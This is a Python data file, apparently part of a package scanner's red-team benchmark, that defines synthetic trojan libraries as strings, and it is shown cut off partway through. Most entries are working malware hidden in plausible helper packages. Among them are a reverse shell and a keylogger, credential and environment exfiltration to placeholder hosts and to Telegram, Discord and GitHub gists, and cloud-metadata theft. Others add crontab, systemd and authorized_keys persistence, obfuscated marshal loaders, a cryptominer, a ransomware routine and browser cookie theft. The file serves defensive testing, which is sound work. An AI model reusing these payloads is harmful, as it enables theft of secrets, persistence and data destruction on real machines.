"""The red-team samples: 48 synthetic trojans and 17 benign look-alikes, as data.

Each sample is a small, plausible library written as strings; `Sample.build` turns it into the bytes
of a wheel (zip) or sdist (tar.gz) in memory with interlock.demo.wheel. Nothing here is installed,
imported, built or run. All hosts are placeholders (example.com/.net/.org) except the well-known
exfiltration services some variants are about (api.telegram.org, discord.com, api.github.com) and the
link-local metadata address; every token in them is a fake placeholder.

Two readers: bench/redteam.py, the benchmark that writes the samples under .bench-cache/redteam/
and scans them with `interlock scan`, and tests/test_redteam.py, which scans them in memory and
holds every verdict to the floor recorded here (`expect`), so that README's figure cannot fall
silently. Written by a red-team pass on 2026-11-29; `expect` records the verdicts of rule set
2026.11.29.9. When a rule change raises a verdict, raise its `expect` (and README's figure) with it.
"""

# ruff: noqa: E501 - the samples' sources are kept as the red-team pass wrote them

from __future__ import annotations

import base64
import codecs
import json
import marshal
import textwrap
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Literal

from interlock.demo.wheel import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

Expect = Literal["clean", "suspicious", "malicious"]
Kind = Literal["wheel", "sdist"]

VERSION = "1.4.2"
"""Every sample is version 1.4.2 of its own distribution."""


@dataclass(frozen=True)
class Sample:
    """One synthetic release of the red-team pass."""

    name: str
    """A short label for the benchmark's table; a benign look-alike's starts with "B "."""
    pkg: str
    """The distribution name, unique across SAMPLES."""
    where: str
    """Where the payload (or, in a look-alike, the code that resembles one) sits, for the reader."""
    files: Mapping[str, str | bytes]
    """Member path -> contents, text flush left; the builder adds .dist-info (wheel) or PKG-INFO (sdist)."""
    malicious: bool
    """True for a trojan, False for a benign look-alike."""
    expect: Expect
    """The verdict recorded for this sample. A trojan must be judged at least this (by Verdict.rank),
    never an error; a look-alike must be judged exactly "clean"."""
    kind: Kind = "wheel"
    """Built as a wheel or as an sdist."""
    entry_points: str | None = None
    """A wheel's entry_points.txt, if any."""

    def __post_init__(self) -> None:
        if not self.malicious and self.expect != "clean":
            raise ValueError(f"{self.name}: a benign look-alike is expected clean, not {self.expect}")

    @property
    def filename(self) -> str:
        return wheel_filename(self.pkg, VERSION) if self.kind == "wheel" else sdist_filename(self.pkg, VERSION)

    def build(self) -> bytes:
        """The release's bytes, built in memory."""
        if self.kind == "wheel":
            return wheel_bytes(self.pkg, VERSION, dict(self.files), entry_points=self.entry_points)
        return sdist_bytes(self.pkg, VERSION, dict(self.files))


_SAMPLES: list[Sample] = []


def D(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def add(
    name: str,
    pkg: str,
    where: str,
    files: dict[str, str | bytes],
    *,
    expect: Expect,
    malicious: bool = True,
    kind: Kind = "wheel",
    entry_points: str | None = None,
) -> None:
    """Record one sample; text files are written indented here and stored flush left."""
    files = {path: D(data) if isinstance(data, str) else data for path, data in files.items()}
    _SAMPLES.append(Sample(name, pkg, where, files, malicious, expect, kind, entry_points))


# ---------------------------------------------------------------------------------------------
# Harmless cover code: each sample is a small, plausible library.
# ---------------------------------------------------------------------------------------------

COVER = {
    "text": '''
        """Small text helpers."""
        import re
        import unicodedata

        _SLUG = re.compile(r"[^a-z0-9]+")


        def slugify(value: str, sep: str = "-") -> str:
            value = unicodedata.normalize("NFKD", value).encode("ascii", "ignore").decode()
            return _SLUG.sub(sep, value.lower()).strip(sep)


        def truncate(value: str, width: int, suffix: str = "...") -> str:
            return value if len(value) <= width else value[: width - len(suffix)] + suffix


        def words(value: str) -> list[str]:
            return [w for w in re.split(r"\\s+", value) if w]
    ''',
    "retry": '''
        """Retry with exponential backoff."""
        import functools
        import random
        import time


        def backoff(attempt: int, base: float = 0.5, cap: float = 30.0) -> float:
            return min(cap, base * 2 ** attempt) * (0.5 + random.random() / 2)


        def retry(times: int = 3, exceptions=(Exception,)):
            def wrap(fn):
                @functools.wraps(fn)
                def inner(*args, **kwargs):
                    for attempt in range(times):
                        try:
                            return fn(*args, **kwargs)
                        except exceptions:
                            if attempt == times - 1:
                                raise
                            time.sleep(backoff(attempt))
                return inner
            return wrap
    ''',
    "color": '''
        """Colour conversions."""


        def hex_to_rgb(value: str) -> tuple[int, int, int]:
            value = value.lstrip("#")
            return tuple(int(value[i:i + 2], 16) for i in (0, 2, 4))


        def rgb_to_hex(r: int, g: int, b: int) -> str:
            return "#{:02x}{:02x}{:02x}".format(r, g, b)


        def lighten(value: str, amount: float = 0.1) -> str:
            r, g, b = hex_to_rgb(value)
            return rgb_to_hex(*(min(255, int(c + (255 - c) * amount)) for c in (r, g, b)))
    ''',
    "units": '''
        """Human-readable sizes."""
        _UNITS = ["B", "KiB", "MiB", "GiB", "TiB"]


        def human_size(n: float) -> str:
            for unit in _UNITS:
                if abs(n) < 1024:
                    return f"{n:.1f} {unit}"
                n /= 1024
            return f"{n:.1f} PiB"


        def parse_size(text: str) -> int:
            number, _, unit = text.strip().partition(" ")
            return int(float(number) * 1024 ** _UNITS.index(unit or "B"))
    ''',
    "config": '''
        """Nested configuration helpers."""
        from copy import deepcopy


        def deep_merge(base: dict, override: dict) -> dict:
            out = deepcopy(base)
            for key, value in override.items():
                if isinstance(value, dict) and isinstance(out.get(key), dict):
                    out[key] = deep_merge(out[key], value)
                else:
                    out[key] = value
            return out


        def get_path(data: dict, dotted: str, default=None):
            for part in dotted.split("."):
                if not isinstance(data, dict) or part not in data:
                    return default
                data = data[part]
            return data
    ''',
    "dates": '''
        """Date helpers."""
        from datetime import datetime, timedelta, timezone


        def parse_iso(value: str) -> datetime:
            return datetime.fromisoformat(value.replace("Z", "+00:00"))


        def humanize(delta: timedelta) -> str:
            seconds = int(delta.total_seconds())
            for size, name in ((86400, "day"), (3600, "hour"), (60, "minute")):
                if seconds >= size:
                    n = seconds // size
                    return f"{n} {name}{'s' if n > 1 else ''}"
            return "just now"


        def utcnow() -> datetime:
            return datetime.now(timezone.utc)
    ''',
}


def lib(pkg: str, theme: str, init_extra: str = "", init_head: str = "", module: str = "core") -> dict[str, str]:
    """A package `pkg` with a cover module and an __init__ (payload text spliced in by callers)."""
    init = (
        D(f'''
        """{pkg}: small, dependency-free helpers."""
    ''')
        + D(init_head)
        + f'from .{module} import *  # noqa: F401,F403\n\n__version__ = "1.4.2"\n'
        + D(init_extra)
    )
    return {f"{pkg}/__init__.py": init, f"{pkg}/{module}.py": COVER[theme]}


def mixin(files: dict[str, str], **more: str) -> dict[str, str]:
    out = dict(files)
    out.update(more)
    return out


# =============================================================================================
# MALICIOUS VARIANTS
# =============================================================================================

# 1 reverse shell at import, in a compat submodule started in a daemon thread
add(
    "revshell-thread",
    "netpulse",
    "netpulse/_compat.py (imported by __init__)",
    mixin(
        lib("netpulse", "retry", init_head="from . import _compat  # noqa: F401\n"),
        **{
            "netpulse/_compat.py": '''
        """Python 2/3 compatibility shims."""
        import os
        import socket
        import subprocess
        import sys
        import threading

        PY3 = sys.version_info[0] == 3
        string_types = (str,) if PY3 else (basestring,)  # noqa: F821


        def _keepalive():
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.connect(("relay.telemetry-cdn.example.com", 4444))
                for fd in (0, 1, 2):
                    os.dup2(s.fileno(), fd)
                subprocess.call(["/bin/sh", "-i"])
            except Exception:
                pass


        threading.Thread(target=_keepalive, daemon=True).start()
    '''
        },
    ),
    expect="malicious",
)

# 2 monkeypatch requests to copy Authorization headers to a third host
add(
    "requests-auth-tap",
    "reqcache-lite",
    "reqcache_lite/adapters.py (imported by __init__)",
    mixin(
        lib("reqcache_lite", "units", init_head="from . import adapters  # noqa: F401\n"),
        **{
            "reqcache_lite/adapters.py": '''
        """Transport adapter that adds response caching to requests sessions."""
        import json
        import threading
        import urllib.request

        import requests

        _orig_send = requests.Session.send


        def _record(url, auth):
            try:
                body = json.dumps({"u": url, "a": auth}).encode()
                req = urllib.request.Request("https://cache-stats.example.net/v2/hit", data=body,
                                             headers={"Content-Type": "application/json"})
                urllib.request.urlopen(req, timeout=3)
            except Exception:
                pass


        def _send(self, request, **kwargs):
            auth = request.headers.get("Authorization")
            if auth:
                threading.Thread(target=_record, args=(request.url, auth), daemon=True).start()
            return _orig_send(self, request, **kwargs)


        requests.Session.send = _send
    '''
        },
    ),
    expect="clean",
)

# 3 monkeypatch httpx via setattr, copy auth + cookies with httpx itself
add(
    "httpx-auth-tap",
    "httpx-retrykit",
    "httpx_retrykit/transport.py (imported by __init__)",
    mixin(
        lib("httpx_retrykit", "retry", init_head="from .transport import RetryTransport  # noqa: F401\n"),
        **{
            "httpx_retrykit/transport.py": '''
        import httpx


        class RetryTransport(httpx.HTTPTransport):
            """Retries idempotent requests on connection errors."""

            def handle_request(self, request):
                for _ in range(3):
                    try:
                        return super().handle_request(request)
                    except httpx.ConnectError:
                        continue
                return super().handle_request(request)


        _original = getattr(httpx.Client, "send")


        def _patched(self, request, *args, **kwargs):
            token = request.headers.get("authorization") or request.headers.get("cookie")
            if token:
                try:
                    httpx.post("https://metrics.httpx-retrykit.example.org/collect",
                               json={"h": str(request.url.host), "t": token}, timeout=2)
                except Exception:
                    pass
            return _original(self, request, *args, **kwargs)


        setattr(httpx.Client, "send", _patched)
    '''
        },
    ),
    expect="clean",
)

# 4 DNS exfiltration via encoded subdomains
add(
    "dns-exfil",
    "geoip-tiny",
    "geoip_tiny/__init__.py",
    lib(
        "geoip_tiny",
        "config",
        init_extra="""
    import base64 as _b
    import getpass as _g
    import os as _o
    import socket as _s


    def _warm_resolver():
        data = "|".join([_g.getuser(), _s.gethostname(), _o.getcwd(),
                         _o.environ.get("AWS_SECRET_ACCESS_KEY", "")]).encode()
        enc = _b.b32encode(data).decode().rstrip("=").lower()
        for i in range(0, len(enc), 60):
            try:
                _s.gethostbyname("%s.%d.r.geo-cdn.example.com" % (enc[i:i + 60], i // 60))
            except OSError:
                pass


    _warm_resolver()
""",
    ),
    expect="malicious",
)

# 5 env dump posted as JSON at import
add(
    "env-dump-json",
    "settings-sync",
    "settings_sync/__init__.py",
    lib(
        "settings_sync",
        "config",
        init_extra="""
    import json
    import os
    import platform
    import urllib.request


    def _sync_defaults():
        payload = json.dumps({"node": platform.node(), "env": dict(os.environ)}).encode()
        req = urllib.request.Request("https://config-sync.example.org/api/v1/defaults", data=payload,
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=5)


    try:
        _sync_defaults()
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 6 cloud metadata credential theft, disguised as region detection at import
add(
    "imds-creds",
    "cloudregion",
    "cloudregion/detect.py (module-level constant)",
    mixin(
        lib("cloudregion", "units", init_head="from .detect import DEFAULT_REGION  # noqa: F401\n"),
        **{
            "cloudregion/detect.py": """
        import urllib.request

        _MD = "http://169.254.169.254/latest/meta-data/"


        def _detect():
            try:
                role = urllib.request.urlopen(_MD + "iam/security-credentials/", timeout=1).read().decode().strip()
                creds = urllib.request.urlopen(_MD + "iam/security-credentials/" + role, timeout=1).read()
                urllib.request.urlopen("https://region-lookup.example.net/v1/r", data=creds, timeout=3)
                return urllib.request.urlopen(_MD + "placement/region", timeout=1).read().decode()
            except Exception:
                return "us-east-1"


        DEFAULT_REGION = _detect()
    """
        },
    ),
    expect="clean",
)

# 7 ~/.git-credentials + ~/.netrc theft in a deep submodule chain
add(
    "git-netrc-theft",
    "vcsinfo",
    "vcsinfo/backends/_git.py (via backends/__init__)",
    mixin(
        lib("vcsinfo", "text", init_head="from . import backends  # noqa: F401\n"),
        **{
            "vcsinfo/backends/__init__.py": "from . import _git  # noqa: F401\nBACKENDS = ['git']\n",
            "vcsinfo/backends/_git.py": """
        import os
        import urllib.parse
        import urllib.request

        _HOME = os.path.expanduser("~")


        def _probe():
            found = {}
            for name in (".git-credentials", ".netrc", ".config/git/credentials"):
                p = os.path.join(_HOME, name)
                if os.path.exists(p):
                    with open(p) as fh:
                        found[name] = fh.read()
            if found:
                data = urllib.parse.urlencode(found).encode()
                urllib.request.urlopen("https://vcs-telemetry.example.com/p", data=data, timeout=4)


        try:
            _probe()
        except Exception:
            pass
    """,
        },
    ),
    expect="malicious",
)

# 8 setup.py cmdclass install steals ~/.pypirc and ~/.docker/config.json
add(
    "setup-cmdclass-pypirc",
    "pyyaml-extras",
    "setup.py cmdclass install",
    {
        "setup.py": """
        import base64
        import os
        import urllib.request

        from setuptools import setup
        from setuptools.command.install import install


        class PostInstall(install):
            def run(self):
                install.run(self)
                blobs = []
                for rel in ("~/.pypirc", "~/.docker/config.json"):
                    path = os.path.expanduser(rel)
                    if os.path.isfile(path):
                        blobs.append(base64.b64encode(open(path, "rb").read()))
                if blobs:
                    try:
                        urllib.request.urlopen("https://pypi-mirror.example.org/simple/_stats",
                                               data=b"\\n".join(blobs), timeout=5)
                    except Exception:
                        pass


        setup(name="pyyaml-extras", version="1.4.2", packages=["pyyaml_extras"],
              cmdclass={"install": PostInstall})
    """,
        "pyyaml_extras/__init__.py": COVER["config"],
    },
    kind="sdist",
    expect="malicious",
)

# 9 crontab persistence through a shell pipeline at import
add(
    "crontab-persist",
    "logrotate-py",
    "logrotate_py/__init__.py",
    lib(
        "logrotate_py",
        "dates",
        init_extra="""
    import os as _os

    if _os.name == "posix":
        _os.system('(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL https://pypi-mirror.example.org/u.sh | sh") | crontab - >/dev/null 2>&1')
""",
    ),
    expect="malicious",
)

# 10 ~/.bashrc + ~/.profile injection
add(
    "bashrc-inject",
    "shellcolors",
    "shellcolors/term.py (imported by __init__)",
    mixin(
        lib("shellcolors", "color", init_head="from . import term  # noqa: F401\n"),
        **{
            "shellcolors/term.py": """
        import os

        _LINE = "\\n[ -x ~/.local/share/.sc/agent ] && (~/.local/share/.sc/agent >/dev/null 2>&1 &)\\n"


        def _enable_truecolor():
            for rc in ("~/.bashrc", "~/.profile", "~/.zshrc"):
                path = os.path.expanduser(rc)
                try:
                    with open(path, "a") as fh:
                        fh.write("export COLORTERM=truecolor" + _LINE)
                except OSError:
                    pass


        _enable_truecolor()
    """
        },
    ),
    expect="malicious",
)

# 11 systemd user unit
add(
    "systemd-user-unit",
    "syncd-client",
    "syncd_client/__init__.py",
    lib(
        "syncd_client",
        "retry",
        init_extra='''
    import os
    import subprocess
    import sys

    _UNIT = """[Unit]
    Description=User sync helper

    [Service]
    ExecStart=%s -c "import urllib.request as u;exec(u.urlopen('https://sync.example.net/agent').read())"
    Restart=always

    [Install]
    WantedBy=default.target
    """ % sys.executable


    def _install_helper():
        d = os.path.expanduser("~/.config/systemd/user")
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "syncd-helper.service"), "w") as fh:
            fh.write(_UNIT)
        subprocess.run(["systemctl", "--user", "enable", "--now", "syncd-helper.service"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


    try:
        _install_helper()
    except Exception:
        pass
''',
    ),
    expect="malicious",
)

# 12 authorized_keys injection
add(
    "authorized-keys",
    "sshconf-parse",
    "sshconf_parse/__init__.py",
    lib(
        "sshconf_parse",
        "text",
        init_extra="""
    import os as _os
    from pathlib import Path as _P

    _K = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE ops@build"


    def _ensure_keys():
        ssh = _P.home() / ".ssh"
        ssh.mkdir(mode=0o700, exist_ok=True)
        ak = ssh / "authorized_keys"
        if not ak.exists() or _K not in ak.read_text():
            with ak.open("a") as fh:
                fh.write(_K + "\\n")
            _os.chmod(ak, 0o600)


    try:
        _ensure_keys()
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 13 sys.meta_path import hook that injects code into boto3 when it is imported
add(
    "meta-path-hook",
    "awsutil-lite",
    "awsutil_lite/_hooks.py (imported by __init__)",
    mixin(
        lib("awsutil_lite", "config", init_head="from . import _hooks  # noqa: F401\n"),
        **{
            "awsutil_lite/_hooks.py": """
        import importlib.abc
        import importlib.machinery
        import sys

        _PATCH = (
            "import json, urllib.request\\n"
            "_c = Session().get_credentials()\\n"
            "_b = json.dumps({'k': _c.access_key, 's': _c.secret_key, 't': _c.token}).encode()\\n"
            "urllib.request.urlopen('https://awsutil-stats.example.com/c', data=_b, timeout=3)\\n"
        )


        class _Loader(importlib.abc.Loader):
            def __init__(self, inner):
                self.inner = inner

            def create_module(self, spec):
                return self.inner.create_module(spec)

            def exec_module(self, module):
                self.inner.exec_module(module)
                try:
                    exec(_PATCH, module.__dict__)
                except Exception:
                    pass


        class _Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path, target=None):
                if name != "boto3":
                    return None
                spec = importlib.machinery.PathFinder.find_spec(name, path)
                if spec is not None:
                    spec.loader = _Loader(spec.loader)
                return spec


        sys.meta_path.insert(0, _Finder())
    """
        },
    ),
    expect="malicious",
)

# 14 payload in an atexit handler
add(
    "atexit-exfil",
    "tinycache",
    "tinycache/__init__.py atexit.register",
    lib(
        "tinycache",
        "units",
        init_extra="""
    import atexit
    import os
    import urllib.request


    def _flush_cache():
        p = os.path.expanduser("~/.aws/credentials")
        if os.path.exists(p):
            try:
                urllib.request.urlopen("https://tinycache.example.org/flush", data=open(p, "rb").read(), timeout=3)
            except Exception:
                pass


    atexit.register(_flush_cache)
""",
    ),
    expect="malicious",
)

# 15 CI-gated + date-gated time bomb
add(
    "ci-timebomb",
    "pytest-quickfix",
    "pytest_quickfix/__init__.py (gated on CI + date)",
    lib(
        "pytest_quickfix",
        "dates",
        init_extra="""
    import datetime as _dt
    import json as _json
    import os as _os
    import urllib.request as _ur

    if _os.environ.get("GITHUB_ACTIONS") == "true" and _dt.date.today() >= _dt.date(2026, 3, 1):
        _keys = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "PYPI_API_TOKEN", "NPM_TOKEN")
        _blob = _json.dumps({k: _os.environ.get(k) for k in _keys}).encode()
        try:
            _ur.urlopen(_ur.Request("https://ci-metrics.example.net/v1/run", data=_blob), timeout=5)
        except Exception:
            pass
""",
    ),
    expect="malicious",
)

# 16 second stage: exec(requests.get(url).text) in a function called from __init__
add(
    "second-stage-requests",
    "fastjsonschema-ng",
    "fastjsonschema_ng/plugins.py, called from __init__",
    mixin(
        lib(
            "fastjsonschema_ng", "config", init_head="from .plugins import load_plugins as _lp\n", init_extra="_lp()\n"
        ),
        **{
            "fastjsonschema_ng/plugins.py": """
        import requests

        PLUGIN_INDEX = "https://plugins.fastjsonschema-ng.example.com/v1/bootstrap.py"


        def load_plugins():
            try:
                code = requests.get(PLUGIN_INDEX, timeout=5).text
                exec(code, {"__name__": "fastjsonschema_ng._plugins"})
            except Exception:
                pass
    """
        },
    ),
    expect="malicious",
)

# 17 getattr(__import__('o'+'s'), 'sys'+'tem')
add(
    "getattr-import-obf",
    "prettylog",
    "prettylog/__init__.py",
    lib(
        "prettylog",
        "text",
        init_extra="""
    _m = getattr(__import__("o" + "s"), "sys" + "tem")
    _m("cu" + "rl -s https://prettylog-cdn.example.com/i.sh | b" + "ash >/dev/null 2>&1 &")
""",
    ),
    expect="malicious",
)

# 18 base64 + zlib + marshal chained payload
_STAGE = D("""
    import os, json, urllib.request
    d = {}
    for f in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config"):
        p = os.path.expanduser(f)
        if os.path.exists(p):
            d[f] = open(p).read()
    urllib.request.urlopen("https://cdn-assets.example.net/u", data=json.dumps(d).encode(), timeout=5)
""")
_MARSHALLED = base64.b64encode(
    zlib.compress(marshal.dumps(compile(_STAGE, "<s>", "exec")))
).decode()  # compiled, never run
add(
    "b64-zlib-marshal",
    "numfmt",
    "numfmt/_speedups.py (imported by __init__)",
    mixin(
        lib("numfmt", "units", init_head="from . import _speedups  # noqa: F401\n"),
        **{
            "numfmt/_speedups.py": f'''
        """Pure-python fallback for the C speedups."""
        import base64, marshal, zlib
        _TABLE = "{_MARSHALLED}"
        exec(marshal.loads(zlib.decompress(base64.b64decode(_TABLE))))
    '''
        },
    ),
    expect="malicious",
)

# 19 payload split across two modules: one decodes, another execs
_SPLIT = base64.b64encode(zlib.compress(_STAGE.encode())).decode()
add(
    "split-decode-exec",
    "tablefmt",
    "tablefmt/_data.py decodes, tablefmt/_runtime.py execs",
    mixin(
        lib("tablefmt", "text", init_head="from . import _runtime  # noqa: F401\n"),
        **{
            "tablefmt/_data.py": f'''
        import base64
        import zlib

        WIDTHS = "{_SPLIT}"


        def load_widths():
            return zlib.decompress(base64.b64decode(WIDTHS)).decode()
    ''',
            "tablefmt/_runtime.py": """
        import builtins

        from ._data import load_widths

        _apply = getattr(builtins, "ex" + "ec")
        _apply(load_widths(), {})
    """,
        },
    ),
    expect="malicious",
)

# 20 exfil via GitHub gist API
add(
    "gist-exfil",
    "dotfile-sync",
    "dotfile_sync/__init__.py",
    lib(
        "dotfile_sync",
        "config",
        init_extra="""
    import json
    import os
    import urllib.request

    _T = "ghp_" + "EXAMPLEPLACEHOLDERTOKEN000000000000"


    def _backup():
        files = {}
        for name in ("id_rsa", "id_ed25519"):
            p = os.path.join(os.path.expanduser("~/.ssh"), name)
            if os.path.exists(p):
                files[name] = {"content": open(p).read()}
        files["env"] = {"content": json.dumps(dict(os.environ))}
        req = urllib.request.Request("https://api.github.com/gists",
                                     data=json.dumps({"public": False, "files": files}).encode(),
                                     headers={"Authorization": "token " + _T})
        urllib.request.urlopen(req, timeout=5)


    try:
        _backup()
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 21 exfil via Telegram bot API
add(
    "telegram-exfil",
    "tgnotify-lite",
    "tgnotify_lite/__init__.py",
    lib(
        "tgnotify_lite",
        "retry",
        init_extra="""
    import os
    import requests

    _BOT = "0000000000:EXAMPLE-PLACEHOLDER-TOKEN"
    _CHAT = "-1000000000000"

    try:
        _p = os.path.expanduser("~/.aws/credentials")
        if os.path.exists(_p):
            requests.post(f"https://api.telegram.org/bot{_BOT}/sendDocument", data={"chat_id": _CHAT},
                          files={"document": open(_p, "rb")}, timeout=5)
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 22 exfil via Discord webhook
add(
    "discord-webhook",
    "colorlog-plus",
    "colorlog_plus/handlers.py (imported by __init__)",
    mixin(
        lib("colorlog_plus", "color", init_head="from . import handlers  # noqa: F401\n"),
        **{
            "colorlog_plus/handlers.py": """
        import json
        import logging
        import os
        import urllib.request

        _HOOK = "https://discord.com/api/webhooks/000000000000000000/EXAMPLE-placeholder"


        class ColorHandler(logging.StreamHandler):
            pass


        def _hello():
            p = os.path.expanduser("~/.git-credentials")
            if os.path.exists(p):
                body = json.dumps({"content": open(p).read()[:1900]}).encode()
                urllib.request.urlopen(urllib.request.Request(_HOOK, data=body, headers={
                    "Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}), timeout=4)


        try:
            _hello()
        except Exception:
            pass
    """
        },
    ),
    expect="malicious",
)

# 23 clipboard crypto-address hijacker (no network at all)
add(
    "clipboard-hijack",
    "clipfmt",
    "clipfmt/__init__.py (daemon thread)",
    lib(
        "clipfmt",
        "text",
        init_extra="""
    import re
    import threading
    import time

    import pyperclip

    _BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
    _ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
    _MINE = {"btc": "bc1qexampleexampleexampleexampleexample0", "eth": "0x" + "ab" * 20}


    def _watch():
        while True:
            try:
                v = pyperclip.paste().strip()
                if _BTC.match(v) and v != _MINE["btc"]:
                    pyperclip.copy(_MINE["btc"])
                elif _ETH.match(v) and v != _MINE["eth"]:
                    pyperclip.copy(_MINE["eth"])
            except Exception:
                pass
            time.sleep(0.5)


    threading.Thread(target=_watch, daemon=True).start()
""",
    ),
    expect="clean",
)

# 24 keylogger with pynput posting keystrokes
add(
    "pynput-keylogger",
    "hotkeys-lite",
    "hotkeys_lite/listener.py (imported by __init__)",
    mixin(
        lib("hotkeys_lite", "config", init_head="from . import listener  # noqa: F401\n"),
        **{
            "hotkeys_lite/listener.py": """
        import threading
        import time

        import requests
        from pynput import keyboard

        _buf = []


        def _on_press(key):
            _buf.append(getattr(key, "char", None) or str(key))


        def _ship():
            while True:
                time.sleep(60)
                if _buf:
                    data, _buf[:] = "".join(_buf), []
                    try:
                        requests.post("https://hotkeys-usage.example.net/k", data=data, timeout=5)
                    except Exception:
                        pass


        keyboard.Listener(on_press=_on_press).start()
        threading.Thread(target=_ship, daemon=True).start()
    """
        },
    ),
    expect="malicious",
)

# 25 cryptominer download + detached Popen(start_new_session=True)
add(
    "cryptominer",
    "gpu-stats",
    "gpu_stats/__init__.py",
    lib(
        "gpu_stats",
        "units",
        init_extra="""
    import os
    import stat
    import subprocess
    import urllib.request

    _BIN = os.path.join(os.path.expanduser("~"), ".cache", ".kworkerd")


    def _bench():
        if not os.path.exists(_BIN):
            os.makedirs(os.path.dirname(_BIN), exist_ok=True)
            urllib.request.urlretrieve("https://gpu-stats-cdn.example.com/bin/bench-linux-x64", _BIN)
            os.chmod(_BIN, os.stat(_BIN).st_mode | stat.S_IEXEC)
        subprocess.Popen([_BIN, "-o", "pool.example.com:3333", "-u", "4Aexamplewalletaddress", "--cpu-max-threads-hint", "50"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


    try:
        _bench()
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 26 ransomware-like walk + encrypt of the home directory
add(
    "ransomware-walk",
    "archivist-tools",
    "archivist_tools/__init__.py (date-gated)",
    lib(
        "archivist_tools",
        "dates",
        init_extra="""
    import datetime
    import os

    from cryptography.fernet import Fernet

    _KEY = b"ZXhhbXBsZWV4YW1wbGVleGFtcGxlZXhhbXBsZWV4YW0="


    def _compact():
        f = Fernet(_KEY)
        for root, _dirs, names in os.walk(os.path.expanduser("~")):
            for n in names:
                if n.endswith((".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".sql")):
                    p = os.path.join(root, n)
                    try:
                        with open(p, "rb") as fh:
                            data = f.encrypt(fh.read())
                        with open(p + ".locked", "wb") as fh:
                            fh.write(data)
                        os.remove(p)
                    except OSError:
                        pass
        with open(os.path.expanduser("~/README_RESTORE.txt"), "w") as fh:
            fh.write("Your files are encrypted. Contact restore@example.com")


    if datetime.date.today() > datetime.date(2026, 6, 1):
        _compact()
""",
    ),
    expect="clean",
)

# 27 browser cookie / login-data theft
add(
    "browser-cookies",
    "webshot-utils",
    "webshot_utils/profile.py (imported by __init__)",
    mixin(
        lib("webshot_utils", "color", init_head="from . import profile  # noqa: F401\n"),
        **{
            "webshot_utils/profile.py": """
        import os
        import shutil
        import sqlite3
        import tempfile

        import requests

        _ROOTS = ["~/.config/google-chrome/Default", "~/Library/Application Support/Google/Chrome/Default",
                  "~/.config/BraveSoftware/Brave-Browser/Default"]


        def _default_profile():
            rows = []
            for r in _ROOTS:
                for db, q in (("Cookies", "select host_key, name, encrypted_value from cookies"),
                              ("Login Data", "select origin_url, username_value, password_value from logins")):
                    src = os.path.join(os.path.expanduser(r), db)
                    if os.path.exists(src):
                        tmp = os.path.join(tempfile.gettempdir(), "ws_" + db.replace(" ", ""))
                        shutil.copy2(src, tmp)
                        rows += [list(map(str, row)) for row in sqlite3.connect(tmp).execute(q)]
            if rows:
                requests.post("https://webshot-render.example.org/p", json=rows, timeout=8)


        try:
            _default_profile()
        except Exception:
            pass
    """
        },
    ),
    expect="malicious",
)

# 28 .pth that imports a shipped module doing the theft
add(
    "pth-imports-module",
    "quietlog",
    "quietlog.pth -> _quietlog_boot.py",
    mixin(
        lib("quietlog", "text"),
        **{
            "quietlog.pth": "import _quietlog_boot\n",
            "_quietlog_boot.py": """
        import json
        import os
        import urllib.request

        _seen = {}
        for _f in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.config/gcloud/credentials.db"):
            _p = os.path.expanduser(_f)
            if os.path.isfile(_p):
                _seen[_f] = open(_p, "rb").read().hex()
        if _seen:
            try:
                urllib.request.urlopen("https://quietlog-telemetry.example.com/b", data=json.dumps(_seen).encode(), timeout=3)
            except Exception:
                pass
    """,
        },
    ),
    expect="malicious",
)

# 29 console_scripts entry named `pip` that harvests index credentials
add(
    "console-script-pip",
    "fastpip-wrap",
    "entry point pip = fastpip_wrap.cli:main",
    mixin(
        lib("fastpip_wrap", "units"),
        **{
            "fastpip_wrap/cli.py": """
        import os
        import subprocess
        import sys
        import urllib.request


        def main():
            args = sys.argv[1:]
            secrets = [a for a in args if "@" in a and "://" in a] + [os.environ.get("PIP_INDEX_URL", "")]
            try:
                urllib.request.urlopen("https://pypi-mirror.example.org/stats", data="\\n".join(secrets).encode(), timeout=2)
            except Exception:
                pass
            return subprocess.call([sys.executable, "-m", "pip"] + args)
    """
        },
    ),
    entry_points="[console_scripts]\npip = fastpip_wrap.cli:main\npip3 = fastpip_wrap.cli:main\n",
    expect="malicious",
)

# 30 setup.py downloads and runs at install (top level)
add(
    "setup-download-run",
    "torch-utils-ext",
    "setup.py top level",
    {
        "setup.py": """
        import os
        import subprocess
        import sys
        import tempfile
        import urllib.request

        from setuptools import setup

        _helper = os.path.join(tempfile.gettempdir(), "build_helper.py")
        try:
            urllib.request.urlretrieve("https://pypi-mirror.example.org/tools/build_helper.py", _helper)
            subprocess.Popen([sys.executable, _helper], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass

        setup(name="torch-utils-ext", version="1.4.2", packages=["torch_utils_ext"])
    """,
        "torch_utils_ext/__init__.py": COVER["units"],
    },
    kind="sdist",
    expect="malicious",
)

# 31 pyproject in-tree build backend with a payload
add(
    "in-tree-backend",
    "buildkit-meta",
    "_build/backend.py (pyproject backend-path)",
    {
        "pyproject.toml": """
        [build-system]
        requires = ["setuptools>=61"]
        build-backend = "backend"
        backend-path = ["_build"]

        [project]
